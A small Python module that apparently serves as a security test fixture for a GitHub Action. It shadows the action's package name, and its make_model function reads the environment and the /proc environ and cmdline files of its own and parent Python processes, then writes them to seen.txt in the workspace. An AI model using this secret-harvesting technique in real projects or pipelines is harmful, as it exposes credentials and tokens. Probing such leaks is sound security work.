"""The repository's own module, with the name of the action's package: a model that writes down all it can see."""

from __future__ import annotations

import os
from pathlib import Path

from sklearn.linear_model import LogisticRegression


def make_model() -> LogisticRegression:
    """An estimator; on the way, what this process and the Python processes above it hold in their environments."""
    seen = [repr(dict(os.environ)), Path("/proc/self/environ").read_text("utf-8", "replace")]
    process = os.getppid()
    while process > 1 and "python" in Path(f"/proc/{process}/exe").resolve().name:
        seen += [Path(f"/proc/{process}/{file}").read_text("utf-8", "replace") for file in ("environ", "cmdline")]
        process = _parent(process)
    Path(os.environ["GITHUB_WORKSPACE"], "seen.txt").write_text("\n".join(seen), "utf-8")
    return LogisticRegression(max_iter=200)


def _parent(process: int) -> int:
    status = Path(f"/proc/{process}/status").read_text("utf-8")
    return next(int(line.split()[1]) for line in status.splitlines() if line.startswith("PPid"))
